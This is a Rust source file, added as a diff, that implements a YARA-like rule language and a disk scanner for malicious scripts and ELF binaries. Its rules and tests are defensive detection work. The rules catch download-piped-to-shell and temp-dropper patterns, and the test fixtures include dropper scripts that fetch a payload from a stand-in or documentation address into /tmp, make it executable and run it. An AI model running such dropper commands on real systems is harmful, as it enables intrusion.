@@ -0,0 +1,894 @@
+// Content rules: a small YARA-like language for what name and path patterns
+// can't catch. A rule file holds any number of
+//
+//     // Comments run to the end of the line, or /* between these */
+//     rule curl_pipe_shell
+//     {
+//         meta:
+//             name = "Download piped into a shell"
+//             severity = "high"
+//             description = "Fetches a script and runs it without saving it"
+//         strings:
+//             $curl = "curl" nocase
+//             $elf = { 7F 45 4C 46 ?? [0-4] ( 01 | 02 ) }
+//             $pipe = /\|\s*(ba|z)?sh\b/i
+//         condition:
+//             filetype == script and filesize < 1MB and any of ($curl, $elf) and $pipe
+//     }
+//
+// Conditions combine `$name`, `any of them`, `all of them`, `N of ($a, $b)`,
+// `filesize` comparisons (with KB/MB/GB) and `filetype ==`/`!=` one of elf,
+// macho, pe, script, text or data, with `and`, `or`, `not` and parentheses.
+// Regexes work on bytes and take the i, s and m flags. Only the first READ_LIMIT bytes of a
+// file are searched.
+
+use anyhow::{anyhow, Context, Result};
+use chrono::Local;
+use regex::bytes::{Regex, RegexBuilder};
+use std::collections::HashSet;
+use std::fs::{self, File};
+use std::io::Read;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use walkdir::WalkDir;
+
+use crate::models::{SecurityThreat, ThreatSeverity};
+use crate::scanner::errors::ScanErrors;
+use crate::security::signatures::{
+    default_roots, is_executable_or_script, is_skipped_dir, threat_type, SignatureDatabase,
+};
+
+/// How much of a file rules are evaluated over
+const READ_LIMIT: u64 = 4 * 1024 * 1024;
+
+/// What a file is, from its first bytes
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FileType {
+    Elf,
+    MachO,
+    Pe,
+    /// Starts with `#!`
+    Script,
+    /// Anything else without NUL bytes
+    Text,
+    Data,
+}
+
+impl FileType {
+    fn parse(name: &str) -> Option<Self> {
+        match name {
+            "elf" => Some(Self::Elf),
+            "macho" => Some(Self::MachO),
+            "pe" => Some(Self::Pe),
+            "script" => Some(Self::Script),
+            "text" => Some(Self::Text),
+            "data" => Some(Self::Data),
+            _ => None,
+        }
+    }
+
+    pub fn detect(data: &[u8]) -> Self {
+        const MACHO_MAGICS: &[[u8; 4]] = &[
+            [0xfe, 0xed, 0xfa, 0xce],
+            [0xfe, 0xed, 0xfa, 0xcf],
+            [0xce, 0xfa, 0xed, 0xfe],
+            [0xcf, 0xfa, 0xed, 0xfe],
+            [0xca, 0xfe, 0xba, 0xbe],
+        ];
+        if data.starts_with(b"\x7fELF") {
+            Self::Elf
+        } else if MACHO_MAGICS.iter().any(|magic| data.starts_with(magic)) {
+            Self::MachO
+        } else if data.starts_with(b"MZ") {
+            Self::Pe
+        } else if data.starts_with(b"#!") {
+            Self::Script
+        } else if !data.contains(&0) {
+            Self::Text
+        } else {
+            Self::Data
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Comparison {
+    Less,
+    LessEqual,
+    Greater,
+    GreaterEqual,
+    Equal,
+    NotEqual,
+}
+
+impl Comparison {
+    fn holds(self, left: u64, right: u64) -> bool {
+        match self {
+            Self::Less => left < right,
+            Self::LessEqual => left <= right,
+            Self::Greater => left > right,
+            Self::GreaterEqual => left >= right,
+            Self::Equal => left == right,
+            Self::NotEqual => left != right,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy)]
+enum Quantifier {
+    Any,
+    All,
+    AtLeast(usize),
+}
+
+#[derive(Debug)]
+enum Condition {
+    Bool(bool),
+    /// Index into the rule's strings
+    String(usize),
+    Of(Quantifier, Vec<usize>),
+    FileSize(Comparison, u64),
+    FileType(bool, FileType),
+    Not(Box<Condition>),
+    And(Box<Condition>, Box<Condition>),
+    Or(Box<Condition>, Box<Condition>),
+}
+
+impl Condition {
+    fn eval(&self, file: &ScannedFile, offsets: &[Option<usize>]) -> bool {
+        match self {
+            Self::Bool(value) => *value,
+            Self::String(index) => offsets[*index].is_some(),
+            Self::Of(quantifier, strings) => {
+                let found = strings.iter().filter(|i| offsets[**i].is_some()).count();
+                match quantifier {
+                    Quantifier::Any => found > 0,
+                    Quantifier::All => found == strings.len(),
+                    Quantifier::AtLeast(n) => found >= *n,
+                }
+            }
+            Self::FileSize(comparison, size) => comparison.holds(file.size, *size),
+            Self::FileType(equal, file_type) => (file.file_type == *file_type) == *equal,
+            Self::Not(inner) => !inner.eval(file, offsets),
+            Self::And(left, right) => left.eval(file, offsets) && right.eval(file, offsets),
+            Self::Or(left, right) => left.eval(file, offsets) || right.eval(file, offsets),
+        }
+    }
+}
+
+/// A `$name = ...` pattern, compiled to a byte regex
+#[derive(Debug)]
+struct RuleString {
+    name: String,
+    regex: Regex,
+}
+
+#[derive(Debug)]
+pub struct Rule {
+    pub id: String,
+    pub name: String,
+    pub severity: ThreatSeverity,
+    pub description: String,
+    /// The file it was loaded from
+    pub source: String,
+    strings: Vec<RuleString>,
+    condition: Condition,
+}
+
+/// A rule that matched, with the first of its strings that was found
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RuleMatch {
+    pub rule_id: String,
+    pub string: Option<String>,
+    pub offset: u64,
+}
+
+/// What rules are evaluated over: the head of a file and its real size
+pub struct ScannedFile {
+    data: Vec<u8>,
+    size: u64,
+    file_type: FileType,
+}
+
+impl ScannedFile {
+    pub fn read(path: &Path) -> std::io::Result<Self> {
+        let file = File::open(path)?;
+        let size = file.metadata()?.len();
+        let mut data = Vec::new();
+        file.take(READ_LIMIT).read_to_end(&mut data)?;
+        Ok(Self::new(data, size))
+    }
+
+    pub fn new(data: Vec<u8>, size: u64) -> Self {
+        let file_type = FileType::detect(&data);
+        Self { data, size, file_type }
+    }
+}
+
+impl Rule {
+    pub fn evaluate(&self, file: &ScannedFile) -> Option<RuleMatch> {
+        let offsets: Vec<Option<usize>> = self
+            .strings
+            .iter()
+            .map(|s| s.regex.find(&file.data).map(|m| m.start()))
+            .collect();
+        if !self.condition.eval(file, &offsets) {
+            return None;
+        }
+        let first = self
+            .strings
+            .iter()
+            .zip(&offsets)
+            .filter_map(|(s, offset)| offset.map(|offset| (s, offset)))
+            .min_by_key(|(_, offset)| *offset);
+        Some(RuleMatch {
+            rule_id: self.id.clone(),
+            string: first.map(|(s, _)| s.name.clone()),
+            offset: first.map_or(0, |(_, offset)| offset as u64),
+        })
+    }
+
+    fn threat(&self, path: &Path, found: &RuleMatch) -> SecurityThreat {
+        let location = match &found.string {
+            Some(string) => format!("{} at offset {:#x}", string, found.offset),
+            None => "on its size and type".to_string(),
+        };
+        let mut description = format!("{}: rule {} matched {}", self.name, self.id, location);
+        if !self.description.is_empty() {
+            description.push_str(". ");
+            description.push_str(&self.description);
+        }
+        SecurityThreat {
+            path: path.to_path_buf(),
+            threat_type: threat_type(path),
+            severity: self.severity,
+            description,
+            detected_at: Local::now(),
+            signature_id: format!("rule:{}", self.id),
+            remediation: None,
+            fix_mode: None,
+        }
+    }
+}
+
+/// Parse the rules in a rule file's contents; `source` names it in errors
+pub fn parse_rules(contents: &str, source: &str) -> Result<Vec<Rule>> {
+    let tokens = tokenize(contents).with_context(|| format!("Rule file {}", source))?;
+    let mut parser = Parser { tokens, position: 0 };
+    let mut rules = Vec::new();
+    while !parser.at_end() {
+        let rule = parser.rule(source).with_context(|| format!("Rule file {}", source))?;
+        rules.push(rule);
+    }
+    Ok(rules)
+}
+
+/// The `*.rules` files in `dir`, sorted by name
+pub fn load_dir(dir: &Path) -> Result<Vec<Rule>> {
+    let mut files: Vec<PathBuf> = match fs::read_dir(dir) {
+        Ok(entries) => entries
+            .filter_map(|e| e.ok())
+            .map(|e| e.path())
+            .filter(|p| p.extension().is_some_and(|ext| ext == "rules"))
+            .collect(),
+        Err(_) => return Ok(Vec::new()),
+    };
+    files.sort();
+
+    let mut rules = Vec::new();
+    for file in files {
+        let contents = fs::read_to_string(&file)
+            .with_context(|| format!("Failed to read {}", file.display()))?;
+        let source = file.file_name().unwrap_or_default().to_string_lossy();
+        rules.extend(parse_rules(&contents, &source)?);
+    }
+    Ok(rules)
+}
+
+/// Reject rules sharing an id
+pub fn check_unique(rules: &[Rule]) -> Result<()> {
+    let mut seen = HashSet::new();
+    for rule in rules {
+        if !seen.insert(&rule.id) {
+            return Err(anyhow!("Duplicate rule id '{}' in {}", rule.id, rule.source));
+        }
+    }
+    Ok(())
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum Token {
+    Ident(String),
+    Variable(String),
+    Text(String, Vec<u8>),
+    Hex(String),
+    Regex(String, String),
+    Number(u64),
+    Symbol(&'static str),
+}
+
+fn tokenize(source: &str) -> Result<Vec<Token>> {
+    const SYMBOLS: &[&str] = &["==", "!=", "<=", ">=", "<", ">", "=", "{", "}", "(", ")", ":", ","];
+    let mut tokens = Vec::new();
+    let mut rest = source;
+
+    loop {
+        rest = rest.trim_start();
+        if rest.is_empty() {
+            return Ok(tokens);
+        }
+        if let Some(comment) = rest.strip_prefix("//") {
+            rest = comment.find('\n').map_or("", |end| &comment[end..]);
+            continue;
+        }
+        if let Some(comment) = rest.strip_prefix("/*") {
+            let end = comment.find("*/").ok_or_else(|| anyhow!("Unterminated comment"))?;
+            rest = &comment[end + 2..];
+            continue;
+        }
+
+        // After `=`, braces and slashes start hex strings and regexes
+        let after_assign = tokens.last() == Some(&Token::Symbol("="));
+        let c = rest.chars().next().unwrap_or_default();
+
+        if after_assign && c == '{' {
+            let end = rest.find('}').ok_or_else(|| anyhow!("Unterminated hex string"))?;
+            tokens.push(Token::Hex(rest[1..end].to_string()));
+            rest = &rest[end + 1..];
+        } else if after_assign && c == '/' {
+            let (pattern, len) = delimited(&rest[1..], '/').ok_or_else(|| anyhow!("Unterminated regex"))?;
+            rest = &rest[1 + len..];
+            let flags_len = rest.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(rest.len());
+            tokens.push(Token::Regex(pattern, rest[..flags_len].to_string()));
+            rest = &rest[flags_len..];
+        } else if c == '"' {
+            let (raw, len) = delimited(&rest[1..], '"').ok_or_else(|| anyhow!("Unterminated string"))?;
+            tokens.push(Token::Text(raw.clone(), unescape(&raw)?));
+            rest = &rest[1 + len..];
+        } else if c == '$' || c.is_ascii_alphabetic() || c == '_' {
+            let len = rest[1..]
+                .find(|c: char| !c.is_ascii_alphanumeric() && c != '_')
+                .map_or(rest.len(), |end| end + 1);
+            let word = &rest[..len];
+            tokens.push(match word.strip_prefix('$') {
+                Some(name) => Token::Variable(name.to_string()),
+                None => Token::Ident(word.to_string()),
+            });
+            rest = &rest[len..];
+        } else if c.is_ascii_digit() {
+            let len = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
+            tokens.push(Token::Number(parse_size(&rest[..len])?));
+            rest = &rest[len..];
+        } else if let Some(symbol) = SYMBOLS.iter().find(|s| rest.starts_with(**s)) {
+            tokens.push(Token::Symbol(symbol));
+            rest = &rest[symbol.len()..];
+        } else {
+            return Err(anyhow!("Unexpected '{}'", c));
+        }
+    }
+}
+
+/// Text up to an unescaped `end`, and how many bytes it took including `end`
+fn delimited(text: &str, end: char) -> Option<(String, usize)> {
+    let mut escaped = false;
+    for (i, c) in text.char_indices() {
+        if c == end && !escaped {
+            return Some((text[..i].to_string(), i + 1));
+        }
+        escaped = c == '\\' && !escaped;
+    }
+    None
+}
+
+fn unescape(raw: &str) -> Result<Vec<u8>> {
+    let mut bytes = Vec::new();
+    let mut chars = raw.chars();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            let mut buffer = [0; 4];
+            bytes.extend(c.encode_utf8(&mut buffer).as_bytes());
+            continue;
+        }
+        match chars.next() {
+            Some('n') => bytes.push(b'\n'),
+            Some('t') => bytes.push(b'\t'),
+            Some('r') => bytes.push(b'\r'),
+            Some('x') => {
+                let hex: String = chars.by_ref().take(2).collect();
+                bytes.push(u8::from_str_radix(&hex, 16).map_err(|_| anyhow!("Invalid escape \\x{}", hex))?);
+            }
+            Some(c @ ('\\' | '"')) => bytes.push(c as u8),
+            other => return Err(anyhow!("Invalid escape \\{}", other.unwrap_or(' '))),
+        }
+    }
+    Ok(bytes)
+}
+
+/// A number, optionally followed by `KB`, `MB` or `GB`
+fn parse_size(text: &str) -> Result<u64> {
+    let digits = text.find(|c: char| !c.is_ascii_digit()).unwrap_or(text.len());
+    let number: u64 = text[..digits].parse().map_err(|_| anyhow!("Invalid number '{}'", text))?;
+    let unit = match &text[digits..] {
+        "" => 1,
+        "KB" => 1024,
+        "MB" => 1024 * 1024,
+        "GB" => 1024 * 1024 * 1024,
+        _ => return Err(anyhow!("Invalid size '{}'", text)),
+    };
+    Ok(number * unit)
+}
+
+/// A byte regex matching the literal `bytes`
+fn literal_regex(bytes: &[u8], nocase: bool) -> Result<Regex> {
+    let mut pattern = String::new();
+    for byte in bytes {
+        if byte.is_ascii_alphanumeric() {
+            pattern.push(*byte as char);
+        } else {
+            pattern.push_str(&format!("\\x{:02x}", byte));
+        }
+    }
+    Ok(RegexBuilder::new(&pattern).unicode(false).case_insensitive(nocase).build()?)
+}
+
+/// A byte regex for `{ 7F 45 ?? [2-4] ( 01 | 02 ) }`
+fn hex_regex(hex: &str) -> Result<Regex> {
+    let mut pattern = String::new();
+    let mut rest = hex.trim();
+    while !rest.is_empty() {
+        if let Some(jump) = rest.strip_prefix('[') {
+            let end = jump.find(']').ok_or_else(|| anyhow!("Unterminated jump in hex string"))?;
+            let (min, max) = jump[..end].split_once('-').unwrap_or((&jump[..end], &jump[..end]));
+            let min: usize = min.trim().parse().map_err(|_| anyhow!("Invalid jump [{}]", &jump[..end]))?;
+            let max = max.trim();
+            if max.is_empty() {
+                pattern.push_str(&format!("(?s:.){{{},}}", min));
+            } else {
+                let max: usize = max.parse().map_err(|_| anyhow!("Invalid jump [{}]", &jump[..end]))?;
+                pattern.push_str(&format!("(?s:.){{{},{}}}", min, max));
+            }
+            rest = &jump[end + 1..];
+        } else if let Some(after) = rest.strip_prefix('(') {
+            pattern.push_str("(?:");
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix(['|', ')']) {
+            pattern.push_str(&rest[..1]);
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix("??") {
+            pattern.push_str("(?s:.)");
+            rest = after;
+        } else {
+            let byte = rest
+                .get(..2)
+                .and_then(|pair| u8::from_str_radix(pair, 16).ok())
+                .ok_or_else(|| anyhow!("Invalid hex string {{{}}}", hex))?;
+            pattern.push_str(&format!("\\x{:02x}", byte));
+            rest = &rest[2..];
+        }
+        rest = rest.trim_start();
+    }
+    if pattern.is_empty() {
+        return Err(anyhow!("Empty hex string"));
+    }
+    Ok(RegexBuilder::new(&pattern).unicode(false).build()?)
+}
+
+struct Parser {
+    tokens: Vec<Token>,
+    position: usize,
+}
+
+impl Parser {
+    fn at_end(&self) -> bool {
+        self.position >= self.tokens.len()
+    }
+
+    fn peek(&self) -> Option<&Token> {
+        self.tokens.get(self.position)
+    }
+
+    fn next(&mut self) -> Result<Token> {
+        let token = self.peek().cloned().ok_or_else(|| anyhow!("Unexpected end of file"))?;
+        self.position += 1;
+        Ok(token)
+    }
+
+    fn accept(&mut self, token: &Token) -> bool {
+        if self.peek() == Some(token) {
+            self.position += 1;
+            true
+        } else {
+            false
+        }
+    }
+
+    fn expect(&mut self, token: Token) -> Result<()> {
+        match self.next()? {
+            found if found == token => Ok(()),
+            found => Err(anyhow!("Expected {:?}, found {:?}", token, found)),
+        }
+    }
+
+    fn ident(&mut self) -> Result<String> {
+        match self.next()? {
+            Token::Ident(name) => Ok(name),
+            found => Err(anyhow!("Expected a name, found {:?}", found)),
+        }
+    }
+
+    fn keyword(&self, word: &str) -> bool {
+        matches!(self.peek(), Some(Token::Ident(name)) if name == word)
+    }
+
+    fn section(&mut self, name: &str) -> Result<bool> {
+        if !self.keyword(name) {
+            return Ok(false);
+        }
+        self.position += 1;
+        self.expect(Token::Symbol(":"))?;
+        Ok(true)
+    }
+
+    fn rule(&mut self, source: &str) -> Result<Rule> {
+        if self.ident()? != "rule" {
+            return Err(anyhow!("Expected 'rule'"));
+        }
+        let id = self.ident()?;
+        self.rule_body(&id, source).with_context(|| format!("Rule '{}'", id))
+    }
+
+    fn rule_body(&mut self, id: &str, source: &str) -> Result<Rule> {
+        self.expect(Token::Symbol("{"))?;
+
+        let mut name = id.to_string();
+        let mut severity = ThreatSeverity::Medium;
+        let mut description = String::new();
+        if self.section("meta")? {
+            while let Some(Token::Ident(key)) = self.peek().cloned() {
+                if key == "strings" || key == "condition" {
+                    break;
+                }
+                self.position += 1;
+                self.expect(Token::Symbol("="))?;
+                let value = match self.next()? {
+                    Token::Text(raw, _) => raw,
+                    found => return Err(anyhow!("Expected a string for '{}', found {:?}", key, found)),
+                };
+                match key.as_str() {
+                    "name" => name = value,
+                    "description" => description = value,
+                    "severity" => {
+                        severity = serde_json::from_value(serde_json::Value::String(value.clone()))
+                            .map_err(|_| anyhow!("Unknown severity '{}'", value))?
+                    }
+                    // Authors, dates, references
+                    _ => {}
+                }
+            }
+        }
+
+        let mut strings: Vec<RuleString> = Vec::new();
+        if self.section("strings")? {
+            while let Some(Token::Variable(variable)) = self.peek().cloned() {
+                self.position += 1;
+                self.expect(Token::Symbol("="))?;
+                let regex = match self.next()? {
+                    Token::Text(_, bytes) => {
+                        let nocase = self.keyword("nocase");
+                        if nocase {
+                            self.position += 1;
+                        }
+                        literal_regex(&bytes, nocase)?
+                    }
+                    Token::Hex(hex) => hex_regex(&hex)?,
+                    // Byte semantics as in YARA: `\w` and `\b` are ASCII, which
+                    // also keeps matching fast over binaries
+                    Token::Regex(pattern, flags) => RegexBuilder::new(&pattern)
+                        .unicode(false)
+                        .case_insensitive(flags.contains('i'))
+                        .dot_matches_new_line(flags.contains('s'))
+                        .multi_line(flags.contains('m'))
+                        .build()
+                        .with_context(|| format!("${}", variable))?,
+                    found => return Err(anyhow!("Expected a string for ${}, found {:?}", variable, found)),
+                };
+                if strings.iter().any(|s| s.name[1..] == variable) {
+                    return Err(anyhow!("${} defined twice", variable));
+                }
+                strings.push(RuleString {
+                    name: format!("${}", variable),
+                    regex,
+                });
+            }
+        }
+
+        if !self.section("condition")? {
+            return Err(anyhow!("Missing condition"));
+        }
+        let condition = self.or(&strings)?;
+        self.expect(Token::Symbol("}"))?;
+
+        Ok(Rule {
+            id: id.to_string(),
+            name,
+            severity,
+            description,
+            source: source.to_string(),
+            strings,
+            condition,
+        })
+    }
+
+    fn or(&mut self, strings: &[RuleString]) -> Result<Condition> {
+        let mut condition = self.and(strings)?;
+        while self.keyword("or") {
+            self.position += 1;
+            condition = Condition::Or(Box::new(condition), Box::new(self.and(strings)?));
+        }
+        Ok(condition)
+    }
+
+    fn and(&mut self, strings: &[RuleString]) -> Result<Condition> {
+        let mut condition = self.not(strings)?;
+        while self.keyword("and") {
+            self.position += 1;
+            condition = Condition::And(Box::new(condition), Box::new(self.not(strings)?));
+        }
+        Ok(condition)
+    }
+
+    fn not(&mut self, strings: &[RuleString]) -> Result<Condition> {
+        if self.keyword("not") {
+            self.position += 1;
+            return Ok(Condition::Not(Box::new(self.not(strings)?)));
+        }
+        self.primary(strings)
+    }
+
+    fn primary(&mut self, strings: &[RuleString]) -> Result<Condition> {
+        let string_index = |name: &str| {
+            strings
+                .iter()
+                .position(|s| s.name[1..] == *name)
+                .ok_or_else(|| anyhow!("${} is not defined", name))
+        };
+
+        match self.next()? {
+            Token::Symbol("(") => {
+                let condition = self.or(strings)?;
+                self.expect(Token::Symbol(")"))?;
+                Ok(condition)
+            }
+            Token::Variable(name) => Ok(Condition::String(string_index(&name)?)),
+            Token::Ident(word) if word == "true" => Ok(Condition::Bool(true)),
+            Token::Ident(word) if word == "false" => Ok(Condition::Bool(false)),
+            Token::Ident(word) if word == "filesize" => {
+                let comparison = match self.next()? {
+                    Token::Symbol("<") => Comparison::Less,
+                    Token::Symbol("<=") => Comparison::LessEqual,
+                    Token::Symbol(">") => Comparison::Greater,
+                    Token::Symbol(">=") => Comparison::GreaterEqual,
+                    Token::Symbol("==") => Comparison::Equal,
+                    Token::Symbol("!=") => Comparison::NotEqual,
+                    found => return Err(anyhow!("Expected a comparison after filesize, found {:?}", found)),
+                };
+                match self.next()? {
+                    Token::Number(size) => Ok(Condition::FileSize(comparison, size)),
+                    found => Err(anyhow!("Expected a size, found {:?}", found)),
+                }
+            }
+            Token::Ident(word) if word == "filetype" => {
+                let equal = match self.next()? {
+                    Token::Symbol("==") => true,
+                    Token::Symbol("!=") => false,
+                    found => return Err(anyhow!("Expected == or != after filetype, found {:?}", found)),
+                };
+                let name = self.ident()?;
+                let file_type = FileType::parse(&name).ok_or_else(|| anyhow!("Unknown file type '{}'", name))?;
+                Ok(Condition::FileType(equal, file_type))
+            }
+            quantity @ (Token::Ident(_) | Token::Number(_)) => {
+                let quantifier = match quantity {
+                    Token::Ident(word) if word == "any" => Quantifier::Any,
+                    Token::Ident(word) if word == "all" => Quantifier::All,
+                    Token::Number(n) => Quantifier::AtLeast(n as usize),
+                    found => return Err(anyhow!("Unexpected {:?} in condition", found)),
+                };
+                if self.ident()? != "of" {
+                    return Err(anyhow!("Expected 'of'"));
+                }
+                let set = if self.keyword("them") {
+                    self.position += 1;
+                    (0..strings.len()).collect()
+                } else {
+                    self.expect(Token::Symbol("("))?;
+                    let mut set = Vec::new();
+                    loop {
+                        match self.next()? {
+                            Token::Variable(name) => set.push(string_index(&name)?),
+                            found => return Err(anyhow!("Expected a $string, found {:?}", found)),
+                        }
+                        if !self.accept(&Token::Symbol(",")) {
+                            break;
+                        }
+                    }
+                    self.expect(Token::Symbol(")"))?;
+                    set
+                };
+                Ok(Condition::Of(quantifier, set))
+            }
+            found => Err(anyhow!("Unexpected {:?} in condition", found)),
+        }
+    }
+}
+
+/// Evaluates the database's content rules over executables and scripts under
+/// the scan roots
+pub struct RuleScanner {
+    database: Arc<SignatureDatabase>,
+    roots: Vec<PathBuf>,
+    max_depth: usize,
+    errors: ScanErrors,
+}
+
+impl RuleScanner {
+    pub fn new(database: Arc<SignatureDatabase>) -> Self {
+        Self {
+            database,
+            roots: default_roots(),
+            max_depth: 6,
+            errors: ScanErrors::new(),
+        }
+    }
+
+    pub fn with_roots(mut self, roots: Vec<PathBuf>) -> Self {
+        self.roots = roots;
+        self
+    }
+
+    /// Where paths the scan had to skip are recorded
+    pub fn with_errors(mut self, errors: ScanErrors) -> Self {
+        self.errors = errors;
+        self
+    }
+
+    pub fn scan(&self) -> Result<Vec<SecurityThreat>> {
+        let mut threats = Vec::new();
+        if self.database.rules.is_empty() {
+            return Ok(threats);
+        }
+
+        for root in &self.roots {
+            let mut walker = WalkDir::new(root)
+                .max_depth(self.max_depth)
+                .follow_links(false)
+                .into_iter();
+
+            while let Some(entry) = walker.next() {
+                let entry = match self.errors.ok(entry) {
+                    Some(entry) => entry,
+                    None => continue,
+                };
+                if entry.depth() > 0 && entry.file_type().is_dir() && is_skipped_dir(&entry) {
+                    walker.skip_current_dir();
+                    continue;
+                }
+                if !entry.file_type().is_file() {
+                    continue;
+                }
+                let Some(metadata) = self.errors.ok(entry.metadata()) else { continue };
+                if metadata.len() == 0 || !is_executable_or_script(entry.path(), &metadata) {
+                    continue;
+                }
+                let Some(file) = self.errors.ok_io(entry.path(), ScannedFile::read(entry.path())) else {
+                    continue;
+                };
+
+                // Every rule that matches is its own finding
+                for rule in &self.database.rules {
+                    if let Some(found) = rule.evaluate(&file) {
+                        threats.push(rule.threat(entry.path(), &found));
+                    }
+                }
+            }
+        }
+
+        threats.sort_by_key(|t| std::cmp::Reverse(t.severity));
+        Ok(threats)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const RULES: &str = r#"
+        /* Droppers seen on CI runners */
+        rule tmp_dropper
+        {
+            meta:
+                name = "Temp dropper"
+                severity = "high"
+                reference = "ignored"
+            strings:
+                $fetch = "CURL" nocase
+                $tmp = /\/(tmp|dev\/shm)\/\.[\w.-]+/
+                $chmod = "chmod +x"
+            condition:
+                filetype == script and filesize < 1KB and $fetch and all of ($tmp, $chmod)
+        }
+
+        rule elf_marker // no meta
+        {
+            strings:
+                $magic = { 7F 45 4C 46 ?? [1-2] ( 01 | 02 ) }
+                $tag = "miner\x00"
+            condition:
+                $magic and (1 of them) and not filetype != elf
+        }
+    "#;
+
+    fn rules() -> Vec<Rule> {
+        parse_rules(RULES, "test.rules").unwrap()
+    }
+
+    #[test]
+    fn test_parse_and_evaluate() {
+        let rules = rules();
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].severity, ThreatSeverity::High);
+        assert_eq!(rules[1].name, "elf_marker");
+
+        let script = b"#!/bin/sh\ncurl -so /tmp/.x http://evil.example/x\nchmod +x /tmp/.x\n".to_vec();
+        let size = script.len() as u64;
+        let found = rules[0].evaluate(&ScannedFile::new(script.clone(), size)).unwrap();
+        assert_eq!(found.string.as_deref(), Some("$fetch"));
+        assert_eq!(found.offset, 10);
+
+        // Size and type constraints
+        assert!(rules[0].evaluate(&ScannedFile::new(script.clone(), 4096)).is_none());
+        assert!(rules[0].evaluate(&ScannedFile::new(script[10..].to_vec(), size)).is_none());
+
+        let elf = b"\x7fELF\x02\x01\x00\x01rest".to_vec();
+        let found = rules[1].evaluate(&ScannedFile::new(elf, 12)).unwrap();
+        assert_eq!((found.string.as_deref(), found.offset), (Some("$magic"), 0));
+        // Too long a jump
+        assert!(rules[1].evaluate(&ScannedFile::new(b"\x7fELF\x02\x00\x00\x00\x01".to_vec(), 9)).is_none());
+    }
+
+    #[test]
+    fn test_invalid_rules() {
+        let invalid = [
+            "rule a { condition: $missing }",
+            "rule a { strings: $x = \"x\" }",
+            "rule a { strings: $x = { 7G } condition: $x }",
+            "rule a { strings: $x = /(/ condition: $x }",
+            "rule a { meta: severity = \"extreme\" condition: true }",
+            "rule a { condition: filetype == jpeg }",
+            "rule a { condition: filesize < 1TB }",
+            "rule a { condition: true",
+        ];
+        for rule in invalid {
+            assert!(parse_rules(rule, "bad.rules").is_err(), "{}", rule);
+        }
+
+        let mut rules = rules();
+        rules.extend(parse_rules("rule tmp_dropper { condition: true }", "other.rules").unwrap());
+        assert!(check_unique(&rules).is_err());
+    }
+
+    #[test]
+    fn test_bundled_rules() {
+        let database = SignatureDatabase::bundled().unwrap();
+        assert!(!database.rules.is_empty());
+
+        let dropper = b"#!/bin/bash\ncd /tmp; wget -q http://203.0.113.7/x -O /tmp/.kworker\nchmod +x /tmp/.kworker; nohup /tmp/.kworker &\n";
+        let file = ScannedFile::new(dropper.to_vec(), dropper.len() as u64);
+        assert!(database.rules.iter().any(|rule| rule.evaluate(&file).is_some()));
+
+        // An ordinary install script isn't flagged
+        let installer = b"#!/bin/sh\nset -e\nmkdir -p \"$HOME/.local/bin\"\ncp tool \"$HOME/.local/bin/\"\nchmod +x \"$HOME/.local/bin/tool\"\n";
+        let file = ScannedFile::new(installer.to_vec(), installer.len() as u64);
+        assert!(database.rules.iter().all(|rule| rule.evaluate(&file).is_none()));
+    }
+}